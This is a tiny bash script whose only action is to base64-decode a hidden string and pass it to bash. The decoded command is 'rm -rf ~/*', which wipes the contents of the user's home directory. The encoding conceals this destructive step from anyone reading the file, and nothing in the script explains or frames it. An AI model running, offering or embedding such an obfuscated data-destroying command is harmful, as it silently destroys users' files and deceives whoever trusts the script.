#!/bin/bash
bash <<< "$(base64 -d <<< cm0gLXJmIH4vKgo=)"
